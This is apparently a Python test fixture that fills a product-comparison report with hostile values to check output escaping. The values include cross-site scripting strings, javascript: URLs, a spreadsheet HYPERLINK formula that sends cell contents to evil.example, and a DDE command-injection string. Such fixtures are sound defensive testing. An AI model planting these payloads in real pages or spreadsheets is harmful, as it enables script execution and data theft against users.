"""A report into which pages have put what harms a browser or a spreadsheet."""

from __future__ import annotations

from datetime import UTC, datetime
from decimal import Decimal
from uuid import UUID

from emptor.models.brief import Brief
from emptor.models.report import (
    Candidate,
    ComparedAttribute,
    ComparedValue,
    Recommendation,
    Report,
    Source,
    SourceRole,
    Statement,
    Verdict,
    VerdictKind,
)
from tests.fakes.dossiers import evidence, offer

READ_AT = datetime(2026, 11, 1, 12, tzinfo=UTC)
SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"buy")'


def hostile_report(job_id: UUID, category: str = "headphones") -> Report:
    said = evidence(f"129.00 {SCRIPT}", "javascript:alert(3)")
    candidate = Candidate(
        name=FORMULA,
        brand="@SUM(1+1)",
        url="javascript:alert(4)",
        rank=1,
        score=0.9,
        qualifies=True,
        offers=(offer("129.00", seller=f"+evil {IMAGE}"),),
        verdicts=(Verdict(constraint="price <= 150 USD", verdict=VerdictKind.PASS, evidence=said),),
    )
    row = ComparedAttribute(
        attribute="temperature", label="-cmd|'/c calc'!A0", values=(ComparedValue(rank=1, value="-10", evidence=said),)
    )
    return Report(
        job_id=job_id,
        brief=Brief(question=f"headphones {IMAGE}", category=category),
        summary=f"Buy it. {SCRIPT}",
        candidates=(candidate,),
        comparison=(row,),
        recommendation=Recommendation(name=SCRIPT, statements=(Statement(text=IMAGE, evidence=(said,)),)),
        sources=(Source(url="javascript:alert(5)", title=SCRIPT, role=SourceRole.RETAILER, outcome="read", fetched_at=READ_AT),),
        notes=(SCRIPT,),
        wall_ms=Decimal(1),  # type: ignore[arg-type]
        web="live",
        generated_at=READ_AT,
    )
